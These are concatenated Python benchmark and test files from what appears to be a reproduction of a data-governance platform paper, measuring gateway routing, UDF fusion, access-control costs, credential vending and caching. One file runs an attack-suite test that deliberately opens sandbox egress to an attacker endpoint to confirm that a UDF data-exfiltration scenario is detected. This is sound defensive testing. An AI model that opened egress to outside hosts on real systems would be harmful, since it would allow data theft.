        lines.append(f"{pad}{value}")
    return lines


def render_bench_records(directory: Path | None = None) -> str:
    """Deterministic text rendering of every ``BENCH_*.json`` record.

    The single source of truth for ``RESULTS.txt``: same JSON set in, same
    text out, so the checked-in file provably matches the checked-in records.
    """
    directory = directory or Path(__file__).resolve().parent
    lines = [_RESULTS_HEADER]
    for path in sorted(directory.glob("BENCH_*.json")):
        record = json.loads(path.read_text())
        lines.append(f"=== {path.name} ===")
        lines.extend(_render_value(record))
        lines.append("")
    return "\n".join(lines)


def regenerate_results(directory: Path | None = None) -> Path:
    """Rewrite ``benchmarks/RESULTS.txt`` from the current JSON set."""
    directory = directory or Path(__file__).resolve().parent
    path = directory / "RESULTS.txt"
    path.write_text(render_bench_records(directory))
    return path


def print_table(title: str, headers: list[str], rows: list[list]) -> None:
    """ASCII table matching the style of the paper's tables."""
    str_rows = [[str(v) for v in row] for row in rows]
    widths = [
        max(len(headers[i]), *(len(r[i]) for r in str_rows)) if str_rows else len(headers[i])
        for i in range(len(headers))
    ]
    print(f"\n=== {title} ===")
    print(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    print("-+-".join("-" * w for w in widths))
    for row in str_rows:
        print(" | ".join(v.ljust(w) for v, w in zip(row, widths)))


if __name__ == "__main__":
    print(regenerate_results())
