"""E6 — Fig. 10: the workspace-wide serverless endpoint under load.

Clients connect to one endpoint; the gateway forwards to warm clusters or
provisions new ones, predictively pre-scales, migrates sessions, and scales
down when idle. All timing uses a virtual clock, so provisioning cost is
modelled, not slept.
"""

import pytest

from harness import print_table

from repro.common.clock import VirtualClock
from repro.connect.client import SparkConnectClient
from repro.platform import Workspace
from repro.platform.serverless import ServerlessGateway

NUM_USERS = 48


def make_workspace():
    ws = Workspace(clock=VirtualClock())
    ws.add_user("admin", admin=True)
    for i in range(NUM_USERS):
        ws.add_user(f"user{i}")
    ws.catalog.create_catalog("m", owner="admin")
    ws.catalog.create_schema("m.s", owner="admin")
    return ws


@pytest.fixture(scope="module")
def routing_sweep():
    rows = []
    for target in (1, 4, 8):
        ws = make_workspace()
        gateway = ServerlessGateway(
            ws.catalog,
            clock=ws.clock,
            max_clusters=64,
            target_sessions_per_cluster=target,
            provision_seconds=30.0,
        )
        started = ws.clock.now()
        clients = [
            SparkConnectClient(gateway.channel(), user=f"user{i}")
            for i in range(NUM_USERS)
        ]
        elapsed = ws.clock.now() - started
        rows.append(
            [
                target,
                gateway.cluster_count(),
                gateway.stats.forwarded,
                gateway.stats.provisioned,
                f"{elapsed:.0f}s",
            ]
        )
        for c in clients:
            c.close()
    print_table(
        f"Gateway routing for {NUM_USERS} connections (30s provisioning)",
        ["target sessions/cluster", "clusters", "forwarded", "provisioned",
         "total provisioning time"],
        rows,
    )
    return rows


def test_higher_packing_fewer_clusters(routing_sweep):
    clusters = [r[1] for r in routing_sweep]
    assert clusters == sorted(clusters, reverse=True)
    assert clusters[-1] == NUM_USERS // 8


def test_forwarding_dominates_at_high_packing(routing_sweep):
    target8 = routing_sweep[-1]
    assert target8[2] > target8[3]  # forwarded > provisioned


def test_predictive_prescaling_cuts_wait():
    """With a steady arrival rate, the forecast pre-provisions capacity so
    later arrivals connect instantly."""
    ws = make_workspace()
    gateway = ServerlessGateway(
        ws.catalog, clock=ws.clock, max_clusters=64,
        target_sessions_per_cluster=4, provision_seconds=30.0,
    )
    waits = []
    for wave in range(4):
        for i in range(8):
            before = ws.clock.now()
            client = SparkConnectClient(
                gateway.channel(), user=f"user{wave * 8 + i}"
            )
            waits.append(ws.clock.now() - before)
            client.close()
        gateway.autoscale()
        gateway.scale_down_idle() if False else None
    first_wave = sum(waits[:8])
    last_wave = sum(waits[-8:])
    print_table(
        "Predictive autoscaling: connection wait per wave",
        ["wave", "total wait (s)"],
        [[i, f"{sum(waits[i * 8:(i + 1) * 8]):.0f}"] for i in range(4)],
    )
    assert last_wave <= first_wave


def test_migration_preserves_throughput():
    ws = make_workspace()
    gateway = ServerlessGateway(
        ws.catalog, clock=ws.clock, target_sessions_per_cluster=8
    )
    client = SparkConnectClient(gateway.channel(), user="user0")
    assert client.range(5).collect() == [(i,) for i in range(5)]
    gateway.migrate_session(client.session_id)
    assert client.range(5).collect() == [(i,) for i in range(5)]
    assert gateway.stats.migrations == 1


def test_scale_down_returns_capacity():
    ws = make_workspace()
    gateway = ServerlessGateway(
        ws.catalog, clock=ws.clock, target_sessions_per_cluster=1
    )
    clients = [
        SparkConnectClient(gateway.channel(), user=f"user{i}") for i in range(6)
    ]
    assert gateway.cluster_count() == 6
    for c in clients:
        c.close()
    gateway.scale_down_idle()
    assert gateway.cluster_count() == 0


def test_benchmark_gateway_connection(benchmark):
    ws = make_workspace()
    gateway = ServerlessGateway(
        ws.catalog, clock=ws.clock, max_clusters=4096,
        target_sessions_per_cluster=8,
    )
    counter = iter(range(10_000_000))

    def connect():
        user = f"user{next(counter) % NUM_USERS}"
        client = SparkConnectClient(gateway.channel(), user=user)
        client.close()

    benchmark(connect)


def test_benchmark_query_through_gateway(benchmark):
    ws = make_workspace()
    gateway = ServerlessGateway(ws.catalog, clock=ws.clock)
    client = SparkConnectClient(gateway.channel(), user="user0")
    benchmark(lambda: client.range(100).collect())
