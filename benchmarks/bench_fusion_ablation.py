"""E7 — ablation: UDF fusion and trust-domain pipeline breaking (§3.3).

The paper claims "our approach to fusing multiple UDF executions for a
single row works, and increasing the number of UDFs does not have an
outsized impact on the overall latency". We measure sandbox round-trips and
latency as the UDF count grows, with fusion on vs off, and show trust
domains breaking fusion groups.
"""

import pytest

from harness import best_time, print_table

from repro.engine.analyzer import DictResolver
from repro.engine.executor import ExecutionConfig, QueryEngine
from repro.engine.expressions import Alias, col
from repro.engine.logical import LocalRelation, Project, UnresolvedRelation
from repro.engine.optimizer import OptimizerConfig
from repro.engine.types import INT, Field, Schema
from repro.engine.udf import PythonUDF
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime

NUM_ROWS = 20_000
BATCH = 8192


def make_engine(fusion: bool) -> QueryEngine:
    schema = Schema((Field("a", INT), Field("b", INT)))
    data = LocalRelation(
        schema,
        [[i % 11 for i in range(NUM_ROWS)], [i % 7 for i in range(NUM_ROWS)]],
    )
    return QueryEngine(
        DictResolver({"t": data}),
        config=ExecutionConfig(batch_size=BATCH),
        optimizer_config=OptimizerConfig(udf_fusion=fusion),
    )


def plan_with_udfs(num_udfs: int, owners: list[str] | None = None):
    owners = owners or ["alice"] * num_udfs

    def add(a, b):
        return a + b

    from repro.engine.types import INT as INT_TYPE

    exprs = []
    for i in range(num_udfs):
        udf_obj = PythonUDF(f"u{i}", add, INT_TYPE, owner=owners[i])
        exprs.append(Alias(udf_obj(col("a"), col("b")), f"c{i}"))
    return Project(UnresolvedRelation("t"), exprs)


def run(engine, plan):
    runtime = SandboxedUDFRuntime(Dispatcher(ClusterManager()), "s")
    engine.execute(plan, user="alice", udf_runtime=runtime)
    return runtime


@pytest.fixture(scope="module")
def ablation():
    batches = -(-NUM_ROWS // BATCH)  # ceil
    rows = []
    for num_udfs in (1, 2, 5, 10):
        fused_runtime = run(make_engine(True), plan_with_udfs(num_udfs))
        unfused_runtime = run(make_engine(False), plan_with_udfs(num_udfs))
        fused_time = best_time(
            lambda n=num_udfs: run(make_engine(True), plan_with_udfs(n)), repeats=3
        )
        unfused_time = best_time(
            lambda n=num_udfs: run(make_engine(False), plan_with_udfs(n)), repeats=3
        )
        rows.append(
            [
                num_udfs,
                fused_runtime.round_trips,
                unfused_runtime.round_trips,
                f"{fused_time * 1000:.1f}",
                f"{unfused_time * 1000:.1f}",
            ]
        )
    print_table(
        f"UDF fusion ablation ({NUM_ROWS} rows, {batches} batches)",
        ["num UDFs", "round-trips fused", "round-trips unfused",
         "fused ms", "unfused ms"],
        rows,
    )
    return rows, batches


def test_fused_roundtrips_constant_in_udf_count(ablation):
    rows, batches = ablation
    for num_udfs, fused_rt, _, _, _ in rows:
        assert fused_rt == batches, (
            f"{num_udfs} fused UDFs should cost one round-trip per batch"
        )


def test_unfused_roundtrips_scale_linearly(ablation):
    rows, batches = ablation
    for num_udfs, _, unfused_rt, _, _ in rows:
        assert unfused_rt == batches * num_udfs


def test_trust_domains_break_fusion_groups():
    engine = make_engine(True)
    plan = plan_with_udfs(4, owners=["alice", "bob", "alice", "bob"])
    runtime = run(engine, plan)
    batches = -(-NUM_ROWS // BATCH)
    # Two trust domains → two round-trips per batch, never one.
    assert runtime.round_trips == 2 * batches


def test_benchmark_fused_ten_udfs(benchmark):
    engine = make_engine(True)
    plan = plan_with_udfs(10)
    benchmark(lambda: run(engine, plan))


def test_benchmark_unfused_ten_udfs(benchmark):
    engine = make_engine(False)
    plan = plan_with_udfs(10)
    benchmark(lambda: run(engine, plan))
