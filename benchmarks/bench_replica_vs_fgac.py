"""E9 — §2.2: the cost of replica-based governance vs catalog FGAC.

Actually materializes per-audience replicas through the engine and measures
storage amplification, refresh compute, and staleness as audience count
grows — against zero marginal cost for row filters.
"""

import pytest

from harness import build_sales_workspace, print_table

from repro.baselines.replicas import ReplicaGovernance

NUM_ROWS = 5_000


def audience_filters(num_audiences: int) -> dict[str, str]:
    """Audiences with varied selectivity, like real departmental subsets."""
    filters = {}
    regions = ["US", "EU", "APAC"]
    for i in range(num_audiences):
        if i < 3:
            filters[f"team_{i}"] = f"region = '{regions[i]}'"
        else:
            filters[f"team_{i}"] = f"amount > {i * 40}"
    return filters


@pytest.fixture(scope="module")
def sweep():
    rows = []
    for num_audiences in (1, 2, 4, 8):
        ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
        governance = ReplicaGovernance(
            cluster=cluster,
            admin_client=admin,
            source_table="main.s.sales",
            audience_filters=audience_filters(num_audiences),
        )
        governance.create_replicas()
        # The source keeps changing; replicas go stale until re-refreshed.
        admin.sql("INSERT INTO main.s.sales VALUES (999999, 'US', 1.0, 1, 1)")
        costs = governance.measure()
        rows.append(
            [
                num_audiences,
                f"{costs.storage_amplification:.2f}x",
                costs.refresh_rows_processed,
                costs.stale_replicas,
            ]
        )
    print_table(
        f"Replica-based governance costs ({NUM_ROWS}-row source)",
        ["audiences", "storage amplification", "refresh rows processed",
         "stale replicas after 1 update"],
        rows,
    )
    print("catalog FGAC reference: 1.00x storage, 0 refresh rows, 0 staleness")
    return rows


def test_amplification_grows_with_audiences(sweep):
    amps = [float(r[1].rstrip("x")) for r in sweep]
    assert amps == sorted(amps)
    assert amps[-1] > 1.5  # 8 audiences: >50% extra storage for copies


def test_all_replicas_go_stale_on_update(sweep):
    for row in sweep:
        assert row[3] == row[0]


def test_refresh_compute_grows(sweep):
    refreshes = [r[2] for r in sweep]
    assert refreshes == sorted(refreshes)


def test_fgac_zero_marginal_storage():
    ws, cluster, admin = build_sales_workspace(num_rows=NUM_ROWS)
    source = ws.catalog.get_table("main.s.sales")
    before = ws.catalog.store.total_bytes(source.storage_root)
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')")
    admin.sql(
        "ALTER TABLE main.s.sales ALTER COLUMN amount SET MASK "
        "(CASE WHEN is_account_group_member('finance') THEN amount ELSE 0.0 END)"
    )
    after = ws.catalog.store.total_bytes(source.storage_root)
    assert after == before


def test_benchmark_replica_refresh(benchmark):
    ws, cluster, admin = build_sales_workspace(num_rows=2_000)
    governance = ReplicaGovernance(
        cluster=cluster,
        admin_client=admin,
        source_table="main.s.sales",
        audience_filters=audience_filters(3),
    )
    governance.create_replicas()
    benchmark(governance.refresh_all)


def test_benchmark_fgac_query(benchmark):
    ws, cluster, admin = build_sales_workspace(num_rows=2_000)
    admin.sql("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')")
    alice = cluster.connect("alice")
    benchmark(lambda: alice.sql("SELECT count(*) AS n FROM main.s.sales").collect())
