"""Scale-out execution backends + shared-memory sandbox transport, quantified.

Two measurements:

(a) **Worker scaling** — one CPU-dense fused scan→filter→project query (a
    compiled kernel over a multi-file governed table) runs on the process
    backend with a 1-worker and a 4-worker pool, and on the thread backend
    with 1 and 4 executors. Worker processes sidestep the GIL, so on a
    ≥4-core host the process backend scales ≥2.5× while threads stay <1.3×;
    on smaller hosts the numbers are still recorded, just not asserted
    (``cpu_count`` lands in the JSON either way).

(b) **Sandbox transport** — the Table-2-style before/after for the
    subprocess sandbox: the legacy pickle-over-pipe transport vs the
    shared-memory batch handoff, per-invoke wall time plus data/control
    pickle bytes (the data path drops to ~0; control frames are exempt).

Emits ``BENCH_scaleout.json``.
"""

from __future__ import annotations

import os

import pytest

from harness import best_time, print_table, write_bench_json

from repro.engine.udf import udf
from repro.platform import Workspace

NUM_FILES = 8
ROWS_PER_FILE = 4_000
POOL_SIZES = (1, 4)
SANDBOX_ROWS = 20_000

#: One arithmetic-heavy projection battery: enough per-row compute that the
#: worker-side kernel dominates the shm handoff and pipe control traffic.
PROJECTIONS = ", ".join(
    f"amount * {i}.5 + id * {i + 1}.0 AS x{i}" for i in range(8)
)
QUERY = (
    f"SELECT id, {PROJECTIONS} FROM main.s.sales "
    "WHERE amount > 1.0 ORDER BY id"
)

RESULTS: dict = {}


def _build_workspace() -> Workspace:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    ctx = ws.catalog.principals.context_for("admin")
    from repro.engine.types import FLOAT, INT, STRING, Field, Schema

    ws.catalog.create_table(
        "main.s.sales",
        Schema(
            (
                Field("id", INT),
                Field("region", STRING),
                Field("amount", FLOAT),
            )
        ),
        owner="admin",
    )
    regions = ("US", "EU", "APAC")
    for commit in range(NUM_FILES):
        base = commit * ROWS_PER_FILE
        ws.catalog.write_table(
            "main.s.sales",
            {
                "id": list(range(base, base + ROWS_PER_FILE)),
                "region": [regions[i % 3] for i in range(ROWS_PER_FILE)],
                "amount": [float(i % 500) for i in range(ROWS_PER_FILE)],
            },
            ctx,
        )
    admin = ws.create_standard_cluster(name="setup").connect("admin")
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.sales TO analysts")
    return ws


def test_worker_scaling():
    """(a) 1 → 4 workers, process vs thread backend, identical results."""
    ws = _build_workspace()
    timings: dict[tuple[str, int], float] = {}
    reference_rows = None
    rows_out: list[list] = []

    configs = [("process", n) for n in POOL_SIZES] + [
        ("thread", n) for n in POOL_SIZES
    ]
    for backend, n in configs:
        cluster = ws.create_standard_cluster(
            name=f"{backend}-{n}",
            worker_backend=backend,
            num_executors=4 if backend == "process" else n,
            worker_pool_size=n,
        )
        alice = cluster.connect("alice")
        rows = alice.sql(QUERY).collect()  # warm caches + correctness probe
        if reference_rows is None:
            reference_rows = rows
        assert rows == reference_rows, f"{backend}/{n} diverged"

        timings[(backend, n)] = best_time(
            lambda: alice.sql(QUERY).collect(), repeats=3
        )
        cluster.shutdown()

    process_scaling = timings[("process", 1)] / timings[("process", 4)]
    thread_scaling = timings[("thread", 1)] / timings[("thread", 4)]
    for backend, n in configs:
        base = timings[(backend, 1)]
        rows_out.append(
            [backend, n, f"{timings[(backend, n)] * 1000:.1f}",
             f"{base / timings[(backend, n)]:.2f}x"]
        )
    print_table(
        f"Fused-kernel scan, {NUM_FILES}x{ROWS_PER_FILE} rows "
        f"(cpu_count={os.cpu_count()})",
        ["backend", "workers", "query ms", "scaling"],
        rows_out,
    )
    RESULTS["scaling"] = {
        "num_files": NUM_FILES,
        "rows_per_file": ROWS_PER_FILE,
        "query_ms": {
            f"{backend}[{n}]": timings[(backend, n)] * 1000
            for backend, n in configs
        },
        "process_scaling_1_to_4": process_scaling,
        "thread_scaling_1_to_4": thread_scaling,
    }
    # The GIL-sidestep claim is only observable with real cores to scale
    # onto; smaller hosts record the numbers without asserting them.
    if (os.cpu_count() or 1) >= 4:
        assert process_scaling >= 2.5, (
            f"process backend scaled only {process_scaling:.2f}x on a "
            f"{os.cpu_count()}-core host"
        )
        assert thread_scaling < 1.3, (
            f"thread backend unexpectedly scaled {thread_scaling:.2f}x"
        )


def test_sandbox_transport_before_after():
    """(b) Subprocess sandbox: pickle-over-pipe vs shared-memory handoff."""
    from repro.sandbox.subprocess_sandbox import SubprocessSandbox

    @udf("float")
    def score(amount, label):
        return amount * 1.1 + len(label)

    scorer = score.with_owner("alice")
    args = [
        [float(i % 500) + 0.25 for i in range(SANDBOX_ROWS)],
        [f"buyer-{i % 97:05d}" for i in range(SANDBOX_ROWS)],
    ]

    rows_out: list[list] = []
    stats_by_mode: dict[str, dict] = {}
    timings: dict[str, float] = {}
    for mode, use_shm in (("pipe+pickle", False), ("shared-memory", True)):
        sandbox = SubprocessSandbox("alice", use_shm=use_shm)
        try:
            expected = sandbox.invoke(scorer, args)  # warm-up: installs UDF
            assert len(expected) == SANDBOX_ROWS
            timings[mode] = best_time(
                lambda: sandbox.invoke(scorer, args), repeats=3
            )
            stats = sandbox.stats
            stats_by_mode[mode] = {
                "data_pickle_bytes": stats.data_pickle_bytes,
                "control_pickle_bytes": stats.control_pickle_bytes,
                "shm_bytes": stats.shm_bytes,
                "invocations": stats.invocations,
            }
        finally:
            sandbox.close()
        per = stats_by_mode[mode]
        rows_out.append(
            [
                mode,
                f"{timings[mode] * 1000:.1f}",
                per["data_pickle_bytes"] // per["invocations"],
                per["control_pickle_bytes"] // per["invocations"],
                per["shm_bytes"] // per["invocations"],
            ]
        )

    print_table(
        f"Sandbox UDF invoke, {SANDBOX_ROWS} rows x 2 columns",
        ["transport", "invoke ms", "data pkl B/inv", "ctrl pkl B/inv", "shm B/inv"],
        rows_out,
    )
    RESULTS["sandbox_transport"] = {
        "rows": SANDBOX_ROWS,
        "invoke_ms": {m: t * 1000 for m, t in timings.items()},
        "stats": stats_by_mode,
    }
    assert stats_by_mode["shared-memory"]["data_pickle_bytes"] == 0
    assert stats_by_mode["pipe+pickle"]["data_pickle_bytes"] > 0


def test_write_json():
    """Persist both measurements (runs after the benchmarks above)."""
    if "scaling" not in RESULTS or "sandbox_transport" not in RESULTS:
        pytest.skip("benchmarks did not run")
    path = write_bench_json(
        "scaleout",
        params={
            "num_files": NUM_FILES,
            "rows_per_file": ROWS_PER_FILE,
            "pool_sizes": list(POOL_SIZES),
            "sandbox_rows": SANDBOX_ROWS,
        },
        extra={"results": RESULTS},
    )
    print(f"\nwrote {path}")
