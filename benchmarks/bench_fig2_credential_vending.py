"""E10 — Fig. 2: cluster-bound vs user-bound storage access.

Left side of the figure: one instance profile shared by the whole cluster —
every access looks the same, any user reaches all cluster data. Right side:
the catalog vends per-user, per-table, expiring credentials — every byte
read is attributable and scoped.
"""

import pytest

from harness import build_sales_workspace, print_table

from repro.storage.credentials import InstanceProfileCredential, READ


@pytest.fixture(scope="module")
def stack():
    return build_sales_workspace(num_rows=2_000)


def test_cluster_bound_access_has_no_identity(stack):
    """The legacy model: the instance profile authorizes everyone alike."""
    ws, cluster, admin = stack
    profile = InstanceProfileCredential(
        token="legacy", cluster_id="legacy-cluster",
        prefixes=("s3://unity-managed",),
    )
    table = ws.catalog.get_table("main.s.sales")
    # Anyone on the cluster reads anything under the profile's prefix...
    data = ws.catalog.store.get(
        ws.catalog.store.list(f"{table.storage_root}/data/", profile)[0], profile
    )
    assert data
    # ...and the audit trail can only say "<cluster>".
    assert profile.identity == "<cluster>"


def test_user_bound_access_attributes_every_read(stack):
    ws, cluster, admin = stack
    alice = cluster.connect("alice")
    alice.table("main.s.sales").collect()
    vends = ws.catalog.audit.events(action="catalog.vend_credential")
    assert vends[-1].principal == "alice"
    reads = [
        e for e in ws.catalog.audit.events(principal="alice") if e.allowed
    ]
    assert reads, "user-bound accesses must appear under the user identity"


def test_credentials_scoped_and_expiring(stack):
    ws, cluster, admin = stack
    ctx = ws.catalog.principals.context_for("alice")
    cred = ws.catalog.vend_credential(
        ctx, "main.s.sales", {READ, "LIST"}, cluster.backend.caps
    )
    assert cred.expires_at > cred.issued_at
    assert all(p.startswith("s3://unity-managed/main/s/sales") for p in cred.prefixes)


def test_vend_rate(stack):
    """Churn check: a query per executor-task credential cycle stays sane."""
    ws, cluster, admin = stack
    alice = cluster.connect("alice")
    before = ws.catalog.vendor.issued_count
    for _ in range(10):
        alice.sql("SELECT count(*) AS n FROM main.s.sales").collect()
    per_query = (ws.catalog.vendor.issued_count - before) / 10
    print_table(
        "Credential vending per query",
        ["credentials per query", "total issued"],
        [[per_query, ws.catalog.vendor.issued_count]],
    )
    assert per_query <= 2


def test_benchmark_credential_vend(benchmark, stack):
    ws, cluster, admin = stack
    ctx = ws.catalog.principals.context_for("alice")

    def vend():
        cred = ws.catalog.vend_credential(
            ctx, "main.s.sales", {READ, "LIST"}, cluster.backend.caps
        )
        ws.catalog.vendor.revoke(cred.token)

    benchmark(vend)


def test_benchmark_privilege_check(benchmark, stack):
    ws, cluster, admin = stack
    ctx = ws.catalog.principals.context_for("alice")
    benchmark(lambda: ws.catalog.has_privilege(ctx, "SELECT", "main.s.sales"))
