"""Adversarial gauntlet acceptance run + defense-off ablation.

Not a paper table — the acceptance experiment for the attack suite
(DESIGN.md §12). Three legs:

- **full gauntlet**: every registered scenario runs against a wired
  multi-user cluster; the bar is zero leaked rows/bytes across all
  technique families, and ``system.access.attack_stats`` must agree.
- **defense-off ablation**: the same harness rebuilt with an egress
  allowlist that includes the attacker's endpoint. The
  ``udf-egress-exfiltration`` scenario must now *leak* — proving the
  gauntlet's oracles detect a missing defense rather than vacuously
  passing.
- **fuzz throughput**: a bounded hypothesis run under the leak oracle,
  timed, with zero counterexamples.

Emits ``BENCH_attack_gauntlet.json``.
"""

from __future__ import annotations

import time

from harness import print_table, write_bench_json

from repro.attacks import registry
from repro.attacks.fuzzer import run_fuzz
from repro.attacks.harness import EVIL_HOST, GauntletHarness
from repro.sandbox.policy import SandboxPolicy

FUZZ_EXAMPLES = 40

RESULTS: dict = {}


def test_full_gauntlet_zero_leaks():
    harness = GauntletHarness()
    try:
        started = time.perf_counter()
        results = harness.run_all()
        elapsed = time.perf_counter() - started
        by_family: dict[str, list] = {}
        for name, result in results.items():
            technique = registry.get_scenario(name).technique
            by_family.setdefault(technique, []).append(result)
        assert all(r.contained for r in results.values()), results
        assert harness.stats.total_leaks() == 0
        table_rows = (
            harness.client_for("admin")
            .table("system.access.attack_stats")
            .collect()
        )
        leak_cells = [v for s, m, v in table_rows if m == "leaks"]
        assert leak_cells and all(v == 0.0 for v in leak_cells)
        RESULTS["full"] = {
            "scenarios": len(results),
            "families": {
                fam: len(outcomes) for fam, outcomes in sorted(by_family.items())
            },
            "contained": sum(r.contained for r in results.values()),
            "leaks": harness.stats.total_leaks(),
            "seconds_total": round(elapsed, 4),
        }
    finally:
        harness.close()


def test_defense_off_ablation_detects_the_leak():
    # Widen the sandbox egress allowlist to the attacker's endpoint: the
    # exfiltration scenario must now land, and the gauntlet must say so.
    harness = GauntletHarness(
        sandbox_policy=SandboxPolicy().with_egress(EVIL_HOST)
    )
    try:
        scenario = registry.get_scenario("udf-egress-exfiltration")
        result = registry.run_scenario(harness, scenario)
        assert not result.contained, "oracle missed a disabled defense"
        assert harness.evil_received, "leak verdict without delivered payloads"
        assert harness.stats.total_leaks() >= 1
        RESULTS["defense_off"] = {
            "scenario": scenario.name,
            "contained": result.contained,
            "delivered_payloads": len(harness.evil_received),
            "leaked_bytes": result.leaked_bytes,
        }
    finally:
        harness.close()


def test_fuzz_throughput_and_report():
    harness = GauntletHarness()
    try:
        started = time.perf_counter()
        failures = run_fuzz(harness, "alice", max_examples=FUZZ_EXAMPLES)
        failures += run_fuzz(harness, "mallory", max_examples=FUZZ_EXAMPLES)
        elapsed = time.perf_counter() - started
        assert failures == []
        RESULTS["fuzz"] = {
            "examples": 2 * FUZZ_EXAMPLES,
            "counterexamples": 0,
            "examples_per_second": round(2 * FUZZ_EXAMPLES / elapsed, 1),
        }
    finally:
        harness.close()

    full = RESULTS["full"]
    print_table(
        "Adversarial gauntlet (DESIGN.md §12)",
        ["leg", "scenarios/examples", "leaks", "note"],
        [
            ["full gauntlet", full["scenarios"], full["leaks"],
             f"{len(full['families'])} families, "
             f"{full['seconds_total']}s"],
            ["defense off", 1,
             int(not RESULTS["defense_off"]["contained"]),
             f"{RESULTS['defense_off']['delivered_payloads']} payloads "
             "reached the evil endpoint"],
            ["fuzz", RESULTS["fuzz"]["examples"],
             RESULTS["fuzz"]["counterexamples"],
             f"{RESULTS['fuzz']['examples_per_second']} plans/s"],
        ],
    )
    write_bench_json(
        "attack_gauntlet",
        params={"fuzz_examples": 2 * FUZZ_EXAMPLES},
        extra={"results": RESULTS},
    )
