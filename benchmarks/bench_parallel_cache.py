"""Parallel scan execution + enforcement caching, quantified.

Two measurements:

(a) **Scan speedup** — a multi-file governed table on an object store with a
    modelled per-data-file fetch latency (a real ``time.sleep``, so worker
    threads overlap reads the way executors overlap S3 GETs). The same scan
    runs on clusters with ``num_executors`` ∈ {1, 2, 4, 8}.

(b) **Repeated-query reduction** — one governed query (row filter + column
    mask) repeated on two otherwise-identical clusters: enforcement caches
    (secure-plan + credential) on vs off. With caches on, the repeat skips
    parse → resolve-secure → efgac-rewrite → optimize and credential
    vending entirely.

Emits ``BENCH_parallel_cache.json`` with both tables plus the live
``system.access.cache_stats`` counters.
"""

from __future__ import annotations

import time

import pytest

from harness import best_time, print_table, write_bench_json

from repro.platform import Workspace
from repro.storage.object_store import ObjectStore

#: Modelled cloud GET latency per *data* file. The commit log is tiny JSON
#: (metadata caches absorb it in a real deployment), so only ``.part``
#: objects pay the round-trip — that is the portion scan tasks parallelize.
DATA_FILE_LATENCY_SECONDS = 0.004
NUM_FILES = 16
ROWS_PER_FILE = 500
EXECUTOR_COUNTS = (1, 2, 4, 8)
REPEATED_QUERIES = 15

RESULTS: dict = {}


class DataLatencyStore(ObjectStore):
    """Object store whose fetch latency applies to data files only."""

    def __init__(self, data_latency_seconds: float):
        super().__init__()
        self.data_latency_seconds = data_latency_seconds

    def get(self, path, credential):
        data = super().get(path, credential)
        if path.endswith(".part"):
            time.sleep(self.data_latency_seconds)
        return data


def _build_workspace(store: ObjectStore | None = None) -> Workspace:
    ws = Workspace(store=store)
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    # Extra groups referenced by the (deliberately complex) row filter.
    for i in range(1, 6):
        ws.add_group(f"g{i}", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    return ws


def _populate_sales(ws: Workspace, num_files: int, rows_per_file: int) -> None:
    """Create main.s.sales as ``num_files`` separate commits (= data files)."""
    ctx = ws.catalog.principals.context_for("admin")
    from repro.engine.types import FLOAT, INT, STRING, Field, Schema

    ws.catalog.create_table(
        "main.s.sales",
        Schema(
            (
                Field("id", INT),
                Field("region", STRING),
                Field("amount", FLOAT),
                Field("buyer", STRING),
            )
        ),
        owner="admin",
    )
    regions = ("US", "EU", "APAC")
    for commit in range(num_files):
        base = commit * rows_per_file
        ws.catalog.write_table(
            "main.s.sales",
            {
                "id": list(range(base, base + rows_per_file)),
                "region": [regions[i % 3] for i in range(rows_per_file)],
                "amount": [float(i % 500) for i in range(rows_per_file)],
                "buyer": [f"p{base + i}" for i in range(rows_per_file)],
            },
            ctx,
        )
    admin = ws.create_standard_cluster(name="setup").connect("admin")
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.sales TO analysts")


def test_parallel_scan_speedup():
    """(a) The same multi-file scan at num_executors in {1, 2, 4, 8}."""
    ws = _build_workspace(store=DataLatencyStore(DATA_FILE_LATENCY_SECONDS))
    _populate_sales(ws, NUM_FILES, ROWS_PER_FILE)

    rows_out: list[list] = []
    timings: dict[int, float] = {}
    expected = NUM_FILES * ROWS_PER_FILE
    for n in EXECUTOR_COUNTS:
        cluster = ws.create_standard_cluster(name=f"ne{n}", num_executors=n)
        alice = cluster.connect("alice")
        query = "SELECT count(*) AS n FROM main.s.sales"
        assert alice.sql(query).collect() == [(expected,)]  # warm caches

        timings[n] = best_time(
            lambda: alice.sql(query).collect(), repeats=3
        )
        source = cluster.backend.data_source
        rows_out.append(
            [
                n,
                f"{timings[n] * 1000:.1f}",
                f"{timings[1] / timings[n]:.2f}x",
                source.stats.executor_tasks,
                source.stats.parallel_scans,
            ]
        )

    print_table(
        f"Parallel scan: {NUM_FILES} files x {DATA_FILE_LATENCY_SECONDS * 1000:.0f}ms GET",
        ["executors", "scan ms", "speedup", "tasks", "parallel scans"],
        rows_out,
    )
    speedup_at_4 = timings[1] / timings[4]
    RESULTS["scan"] = {
        "num_files": NUM_FILES,
        "data_file_latency_ms": DATA_FILE_LATENCY_SECONDS * 1000,
        "scan_ms_by_executors": {
            str(n): timings[n] * 1000 for n in EXECUTOR_COUNTS
        },
        "speedup_at_4_executors": speedup_at_4,
    }
    assert speedup_at_4 >= 2.0, (
        f"parallel scan speedup at 4 executors was only {speedup_at_4:.2f}x"
    )


def test_repeated_query_cache_reduction():
    """(b) One governed query repeated: enforcement caches on vs off."""
    ws = _build_workspace()
    # Tiny data: per-query cost is enforcement, not rows — exactly the
    # regime the paper's "redundant policy rewriting" critique targets.
    _populate_sales(ws, num_files=1, rows_per_file=8)
    admin = ws.create_standard_cluster(name="policy-admin").connect("admin")
    group_terms = " OR ".join(
        f"(region = 'R{i}' AND is_account_group_member('g{i}'))"
        for i in range(1, 6)
    )
    admin.sql(
        "ALTER TABLE main.s.sales SET ROW FILTER "
        f"(region = 'US' OR is_account_group_member('analysts') OR {group_terms})"
    )
